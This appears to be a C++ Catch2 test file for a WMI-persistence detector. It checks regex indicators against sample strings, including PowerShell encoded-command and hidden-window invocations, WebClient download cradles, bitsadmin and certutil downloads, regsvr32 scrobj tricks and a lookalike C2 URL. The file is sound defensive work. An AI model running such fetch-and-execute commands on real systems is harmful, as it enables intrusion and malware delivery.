// Suspicious-payload indicators: the table's shape, each row on texts it must and must
// not match, the order of what fires.
#include "wmihunt/regex.hpp"
#include "wmihunt/verdicts.hpp"

#include <catch2/catch.hpp>

#include <algorithm>
#include <set>

using namespace wmihunt;

namespace {

using Names = std::vector<std::string_view>;

Names on_action(std::string action) {
    return indicators(SubscriptionPayload{.consumer_type = "CommandLineEventConsumer",
                                          .action = std::move(action)});
}

bool fires(std::string_view name, std::string action) {
    Names got = on_action(std::move(action));
    return std::find(got.begin(), got.end(), name) != got.end();
}

} // namespace

TEST_CASE("every indicator row has a unique name, a source and a pattern that compiles") {
    std::set<std::string_view> names;
    REQUIRE(indicator_rules().size() == 11);
    for (const IndicatorRule& rule : indicator_rules()) {
        INFO(rule.name);
        CHECK(names.insert(rule.name).second);
        CHECK_FALSE(rule.source.empty());
        CHECK_NOTHROW(Regex(rule.pattern));
    }
}

TEST_CASE("script-consumer fires on ActiveScriptEventConsumer only") {
    auto of_type = [](std::string type) {
        return indicators(SubscriptionPayload{.consumer_type = std::move(type)});
    };
    CHECK(of_type("ActiveScriptEventConsumer") == Names{"script-consumer"});
    CHECK(of_type("activescripteventconsumer") == Names{"script-consumer"});
    CHECK(of_type("CommandLineEventConsumer").empty());
    CHECK(of_type("ActiveScriptEventConsumerX").empty());
    // The consumer type is not tested as an action, nor the action as a type.
    CHECK(on_action("ActiveScriptEventConsumer").empty());
}

TEST_CASE("shell-or-script-host fires on shells and script hosts as whole words") {
    for (const char* action :
         {R"(c:\Windows\System32\cmd.exe)", "cmd /c echo x", "powershell.exe -w hidden",
          "pwsh -c x", "mshta http://x", R"(wscript C:\s.vbs)", "CSCRIPT.EXE s.js",
          "rundll32 a.dll,Entry", "regsvr32 /s /i:x scrobj.dll"})
        CHECK(fires("shell-or-script-host", action));
    CHECK_FALSE(fires("shell-or-script-host", R"(C:\Tools\cmdline-helper.exe)"));
    CHECK_FALSE(fires("shell-or-script-host", "aCmdType = 1"));
    CHECK_FALSE(fires("shell-or-script-host", "Service Control Manager"));
}

TEST_CASE("encoded-command fires on -EncodedCommand and its prefixes with a Base64 argument") {
    CHECK(fires("encoded-command", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"));
    CHECK(fires("encoded-command", "powershell.exe -nop -w hidden -noni -e aQBmACgAWwBJAG4A"));
    CHECK(fires("encoded-command", "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A"));
    CHECK(fires("encoded-command", "powershell /ec 'SQBFAFgAIAAoAE4AZQB3AC0A'"));
    CHECK_FALSE(fires("encoded-command", "powershell -enc short"));
    CHECK_FALSE(fires("encoded-command", R"(xcopy /e C:\source D:\target)"));
    CHECK_FALSE(fires("encoded-command", "powershell -encoding SQBFAFgAIAAoAE4AZQB3AC0A"));
}

TEST_CASE("base64-decode, long-base64 and powershell-evasion") {
    CHECK(fires("base64-decode", "[Convert]::FromBase64String('SQBFAFgA')"));
    CHECK(fires("base64-decode", "New-Object Security.Cryptography.FromBase64Transform"));
    CHECK(fires("base64-decode", "certutil -decode in.b64 out.exe"));
    CHECK_FALSE(fires("base64-decode", "Function Base64Decode(ByVal s)"));

    CHECK(fires("long-base64", "x " + std::string(500, 'A')));
    CHECK_FALSE(fires("long-base64", "x " + std::string(499, 'A') + " " + std::string(499, 'A')));

    CHECK(fires("powershell-evasion", "powershell -nop -w hidden -c x"));
    CHECK(fires("powershell-evasion", "powershell -c iex(x)"));
    CHECK(fires("powershell-evasion", "powershell -NoProfile -c x"));
    CHECK(fires("powershell-evasion", "CreateObject(\"WScript.Shell\")"));
    CHECK_FALSE(fires("powershell-evasion", "powershell -nopx"));
}

TEST_CASE("download indicators: cradles, bitsadmin, certutil and URLs") {
    CHECK(fires("download-cradle", "(New-Object Net.WebClient).DownloadString('http://x/a')"));
    CHECK(fires("download-cradle", "$c.DownloadFile('http://x/a', 'a.exe')"));
    CHECK(fires("download-cradle", "Invoke-WebRequest -Uri x"));
    CHECK(fires("download-cradle", "iwr x -OutFile y"));
    CHECK_FALSE(fires("download-cradle", "Download the string"));

    CHECK(fires("bitsadmin-download", R"(bitsadmin /transfer j http://x/a.exe C:\a.exe)"));
    CHECK(fires("bitsadmin-download", "bitsadmin.exe /create j"));
    CHECK_FALSE(fires("bitsadmin-download", "bitsadmin /list"));

    CHECK(fires("certutil-download", "certutil -urlcache -split -f http://x/a a.exe"));
    CHECK(fires("certutil-download", "certutil.exe /verifyctl -f -split http://x/a"));
    CHECK_FALSE(fires("certutil-download", "certutil -hashfile a.exe"));

    CHECK(fires("url", "aC2URL = \"http://googleaccountsservices.com/index.html\""));
    CHECK(fires("url", "HTTPS://x"));
    CHECK(fires("url", "ftp://x/y"));
    CHECK_FALSE(fires("url", "hxxp://x"));
    CHECK_FALSE(fires("url", R"(C:\http\x.exe)"));
}

TEST_CASE("user-writable-path fires on public, temporary, profile and ProgramData folders") {
    for (const char* action :
         {R"(C:\Users\Public\a.exe)", R"(C:\Users\bob\AppData\Roaming\a.exe)",
          R"(C:\Windows\Temp\a.exe)", R"(c:\\temp\\log.txt)", R"(C:\ProgramData\a.exe)",
          R"(%APPDATA%\a.exe)", R"(%LocalAppData%\a.exe)", R"(%TEMP%\a.exe)", "%tmp%\\a.exe",
          R"(%ProgramData%\a.exe)"})
        CHECK(fires("user-writable-path", action));
    CHECK_FALSE(fires("user-writable-path", R"(C:\Windows\System32\cmd.exe)"));
    CHECK_FALSE(fires("user-writable-path", R"(C:\Program Files\Vendor\agent.exe)"));
}

TEST_CASE("indicators reports what fires in table order") {
    SubscriptionPayload payload{
        .consumer_type = "ActiveScriptEventConsumer",
        .action = "CreateObject(\"WScript.Shell\").Run \"powershell -nop -enc "
                  "SQBFAFgAIAAoAE4AZQB3AC0A; (New-Object Net.WebClient).DownloadString("
                  "'https://x/a') > C:\\Users\\Public\\a.txt\"",
        .scripting_engine = "VBScript",
        .query = "SELECT * FROM __TimerEvent",
    };
    CHECK(indicators(payload) == Names{"script-consumer", "shell-or-script-host", "encoded-command",
                                       "powershell-evasion", "download-cradle", "url",
                                       "user-writable-path"});
    CHECK(indicators(SubscriptionPayload{}).empty());
    // Sysmon-19-20-21_CommandLineEventConsumer's consumer (Destination, unquoted).
    CHECK(on_action(R"(c:\Windows\System32\cmd.exe)") == Names{"shell-or-script-host"});
    // The Windows SCM Event Log consumer's action.
    CHECK(indicators(SubscriptionPayload{.consumer_type = "NTEventLogEventConsumer",
                                         .action = "Service Control Manager",
                                         .query = "select * from MSFT_SCMEventLogEvent"})
              .empty());
}
